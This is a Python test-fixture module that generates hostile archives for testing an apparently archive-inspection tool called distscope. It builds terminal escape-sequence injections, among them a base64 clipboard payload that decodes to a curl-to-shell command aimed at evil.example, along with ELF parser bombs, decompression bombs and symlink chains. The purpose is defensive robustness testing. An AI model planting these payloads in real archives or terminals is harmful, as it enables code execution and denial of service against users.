"""Builders of the hostile corpus (generated at test time, seeded) and a bounded runner.

Every builder returns bytes (or writes a file) small enough to keep each test fast: big inputs
are sparse files or streams that expand only when decompressed.
"""

from __future__ import annotations

import bz2
import io
import json
import lzma
import os
import random
import resource
import subprocess
import sys
import tarfile
import zlib
from pathlib import Path

import zstandard

from distscope.tui.synth import make_elf
from tests.archives import MTIME, compress, entry, tar_bytes

SEED = 13
ESC = "\x1b"
#: Terminal sequences an archive may try to send: OSC 52 (clipboard), OSC 0 (title), CSI
#: (clear screen), and C1 CSI / a bidirectional override.
OSC52 = f"{ESC}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07"
TITLE = f"{ESC}]0;pwned\x07"
CLEAR = f"{ESC}[2J{ESC}[H"
C1 = "\x9b31m\u202e"


def rng() -> random.Random:
    return random.Random(SEED)


# -- running distscope with bounds -----------------------------------------------------------
def run_bounded(*args: str, memory: int = 1 << 30, timeout: float = 30, env: dict | None = None,
                stdin=subprocess.DEVNULL) -> subprocess.CompletedProcess:
    """``distscope ARGS`` in a child process whose address space is capped (RLIMIT_AS, on top of
    what the interpreter itself maps) and killed after ``timeout`` seconds (the test fails)."""
    base = _baseline_as()

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (base + memory, base + memory))

    full_env = {**os.environ, **(env or {}), "PYTHONDONTWRITEBYTECODE": "1"}
    return subprocess.run([sys.executable, "-m", "distscope.tui", *args], capture_output=True, timeout=timeout,
                          preexec_fn=limit, env=full_env, stdin=stdin)


_BASE: list[int] = []


def _baseline_as() -> int:
    """Address space a bare ``distscope --version`` child maps (threads' stacks included)."""
    if not _BASE:
        _BASE.append(768 << 20)  # interpreter, zstandard, thread stacks: generous
    return _BASE[0]


def one_line(err: bytes | str) -> str:
    text = err.decode("utf-8", "replace") if isinstance(err, bytes) else err
    assert "Traceback" not in text, text
    lines = text.strip("\n").split("\n")
    assert len(lines) == 1, text
    return lines[0]


def assert_inert(*outputs: bytes | str) -> None:
    """No escape sequence reaches a terminal: no ESC, no C1 control, no BEL, no bidi override."""
    for out in outputs:
        text = out.decode("utf-8", "surrogateescape") if isinstance(out, bytes) else out
        for bad in ("\x1b", "\x07", "\x9b", "\u202e", "\x9d"):
            assert bad not in text, (bad, text[max(0, text.find(bad) - 80):text.find(bad) + 80])


# -- terminal-hostile archives ---------------------------------------------------------------
def hostile_text_archive(path: Path) -> Path:
    """A distribution whose every printed field carries terminal sequences: member names,
    owner/group, a symlink target, PYTHON.json fields, licence file names and texts, an ELF's
    DT_NEEDED, SONAME and RPATH, an unsafe member."""
    evil = OSC52 + TITLE
    elf = make_elf(needed=[f"libc.so.6", f"lib{CLEAR}evil.so"], soname=f"libpython3.12{TITLE}.so",
                   rpath=f"$ORIGIN/{OSC52}", versions={"libc.so.6": ["GLIBC_2.17"]})
    pyjson = {"version": "8", "target_triple": f"x86_64-unknown-linux-gnu{evil}",
              "python_version": f"3.12.7{CLEAR}", "python_major_minor_version": "3.12",
              "licenses": [f"MIT{OSC52}"], "license_path": f"licenses/LICENSE{TITLE}.txt",
              "python_exe": "install/bin/python3", "build_info": {"core": {"links": [], "licenses": [f"GPL{C1}"]}}}
    entries = [
        entry("python/PYTHON.json", json.dumps(pyjson)),
        entry("python/install/bin/python3", elf, mode=0o755),
        entry(f"python/install/lib/clip{OSC52}", "x"),
        entry(f"python/install/lib/title{TITLE}{C1}.txt", "y"),
        entry(f"python/install/lib/link{CLEAR}", type="symlink", link=f"../{OSC52}"),
        entry(f"python/licenses/LICENSE{TITLE}.txt", f"GNU GENERAL PUBLIC LICENSE\n\tVersion 3{OSC52}\n"),
        entry(f"python/install/lib/LICENSE.openssl{CLEAR}", f"Apache License{TITLE}\n\tVersion 2.0\n"),
        entry(f"/abs{OSC52}", "z"),
    ]
    owner = entry("python/owned.txt", "o")
    owner[0].uname, owner[0].gname = f"root{OSC52}", f"wheel{TITLE}"
    entries.append(owner)
    path.write_bytes(compress(tar_bytes(entries), "zstd"))
    return path


# -- ELF bombs ---------------------------------------------------------------------------------
def _denul(blob: bytes, first: bytes, last: bytes) -> bytes:
    """Replace every NUL between the string ``first`` and the end of ``last`` with 'A' (a
    string table without terminators)."""
    start = blob.index(b"\0" + first + b"\0") + 1
    stop = blob.index(b"\0" + last + b"\0") + len(last) + 1
    data = bytearray(blob)
    data[start:stop + 1] = data[start:stop + 1].replace(b"\0", b"A")
    return bytes(data)


def elf_needed_bomb(count: int = 4000) -> bytes:
    """``count`` DT_NEEDED entries in a string table with no NUL: each name used to be the
    rest of the table."""
    names = [f"n{i:05}" for i in range(count)]
    return _denul(make_elf(needed=names), names[0].encode(), names[-1].encode())


def elf_symbol_bomb(count: int = 30000) -> bytes:
    """``count`` exported symbols over a NUL-less .dynstr: each name search used to run to the
    end of the table."""
    names = [f"s{i:06}" for i in range(count)]
    return _denul(make_elf(needed=["libc.so.6"], exported_symbols=names), names[0].encode(), names[-1].encode())


def elf_versions_bomb(files: int = 64, names: int = 512) -> bytes:
    """Many version needs (files x names), their strings without NULs."""
    versions = {f"lib{i:03}.so": [f"V{i:03}_{j:04}" for j in range(names)] for i in range(files)}
    blob = make_elf(needed=list(versions), versions=versions)
    return _denul(blob, b"lib000.so", f"V{files - 1:03}_{names - 1:04}".encode())


def archive_with(path: Path, members: list, compression: str = "zstd") -> Path:
    path.write_bytes(compress(tar_bytes(members), compression))
    return path


# -- decompression bombs -----------------------------------------------------------------------
def zstd_with_window(data: bytes, window_log: int) -> bytes:
    """A zstd frame of ``data`` whose header declares a 2**window_log window (patched: the
    blocks stay valid, only the declared window grows)."""
    cobj = zstandard.ZstdCompressor(level=3, write_content_size=False, write_checksum=True).compressobj()
    frame = bytearray(cobj.compress(data) + cobj.flush())
    assert frame[4] & 0x20 == 0, "single-segment frame: no window descriptor"
    frame[5] = (window_log - 10) << 3
    return bytes(frame)


def xz_with_dictionary(data: bytes, dict_byte: int = 37) -> bytes:
    """An xz stream of ``data`` whose block declares a big LZMA2 dictionary (37: 1.5 GiB)."""
    blob = bytearray(lzma.compress(data, preset=0))
    start = 12
    size = (blob[start] + 1) * 4
    head = blob[start:start + size]
    flags, p = head[1], 2
    for bit in (0x40, 0x80):
        if flags & bit:
            while head[p] & 0x80:
                p += 1
            p += 1
    assert head[p] == 0x21 and head[p + 1] == 1, "not an LZMA2 filter"
    head[p + 2] = dict_byte
    head[-4:] = zlib.crc32(bytes(head[:-4])).to_bytes(4, "little")
    blob[start:start + size] = head
    return bytes(blob)


def bzip2_trailing_bomb(path: Path, streams: int = 400) -> Path:
    """A small .tar.bz2 followed by ``streams`` bzip2 streams of 10 MB of zeros each
    (about 4 GB that a drain would decompress, in ~50 KB)."""
    small = tar_bytes([entry("python/a.py", "a = 1\n"), entry("python/b.py", "b = 2\n")])
    zeros = bz2.compress(bytes(10 << 20), 9)
    path.write_bytes(bz2.compress(small) + zeros * streams)
    return path


# -- zstd container damage ---------------------------------------------------------------------
def zstd_members(count: int = 40, size: int = 3000) -> tuple[bytes, list[str]]:
    """A tar of ``count`` barely compressible members, and their names."""
    r = rng()
    names = [f"python/m{i:03}.bin" for i in range(count)]
    return tar_bytes([entry(n, r.randbytes(size)) for n in names]), names


def text_members(count: int = 400, size: int = 20000) -> tuple[bytes, list[str]]:
    """A tar of ``count`` compressible (word salad) members, and their names."""
    r = rng()
    words = [bytes(r.choices(b"abcdefghijklmnopqrstuvwxyz", k=r.randrange(2, 9))) for _ in range(2000)]
    names = [f"python/t{i:03}.txt" for i in range(count)]
    members = []
    for n in names:
        text = b" ".join(r.choices(words, k=size // 5))[:size]
        members.append(entry(n, text))
    return tar_bytes(members), names


def break_zstd_block(frame: bytes, fraction: float = 0.75) -> bytes:
    """``frame`` (one zstd frame) with the block header nearest ``fraction`` of it marked with the
    reserved block type: the decoder fails exactly there, the data before it is good."""
    fhd = frame[4]
    single = bool(fhd & 0x20)
    pos = 5 + (0 if single else 1) + (0, 1, 2, 4)[fhd & 3] + ((1 if single else 0), 2, 4, 8)[fhd >> 6]
    blocks = []
    while True:
        value = int.from_bytes(frame[pos:pos + 3], "little")
        blocks.append(pos)
        if value & 1:
            break
        pos += 3 + (1 if (value >> 1) & 3 == 1 else value >> 3)
    at = blocks[int(len(blocks) * fraction)]
    out = bytearray(frame)
    out[at] |= 0b110  # block type 3: reserved
    return bytes(out)


def seekable_zstd(data: bytes, frame_size: int = 16 << 10) -> bytes:
    """Frames of ``frame_size`` decompressed bytes plus a zstd seek table (the seekable format)."""
    from distscope.tui.archive.seekable import seek_table_bytes

    cctx = zstandard.ZstdCompressor(level=1, write_checksum=True)
    frames, out, ustart = [], bytearray(), 0
    for i in range(0, len(data), frame_size):
        chunk = data[i:i + frame_size]
        compressed = cctx.compress(chunk)
        frames.append((ustart, len(out), len(compressed), len(chunk)))
        out += compressed
        ustart += len(chunk)
    return bytes(out + seek_table_bytes(frames))


# -- extract's bad members -------------------------------------------------------------------
def tar_of(infos: list[tuple[tarfile.TarInfo, bytes]], fmt: int = tarfile.PAX_FORMAT) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt) as tar:
        for info, data in infos:
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return out.getvalue()


def info(name: str, data: bytes = b"", *, kind=tarfile.REGTYPE, link: str = "", mtime: int = MTIME):
    i = tarfile.TarInfo(name)
    i.type, i.linkname, i.mtime, i.mode = kind, link, mtime, 0o755 if kind == tarfile.DIRTYPE else 0o644
    i.size = len(data) if kind == tarfile.REGTYPE else 0
    return i, data


def symlink_chain(length: int, backward: bool = False) -> list:
    """``length`` symlinks, each to the next (``backward``: each to one not written yet), the
    last (first) to a real file."""
    out = [info("python/target.txt", b"t")]
    if backward:  # l0 -> l1 -> ... -> l(n-1) -> target.txt, written in order 0..n-1
        for i in range(length):
            link = f"l{i + 1:05}" if i + 1 < length else "target.txt"
            out.append(info(f"python/l{i:05}", kind=tarfile.SYMTYPE, link=link))
    else:  # l0 -> target.txt, l(i) -> l(i-1)
        for i in range(length):
            link = f"l{i - 1:05}" if i else "target.txt"
            out.append(info(f"python/l{i:05}", kind=tarfile.SYMTYPE, link=link))
    return out
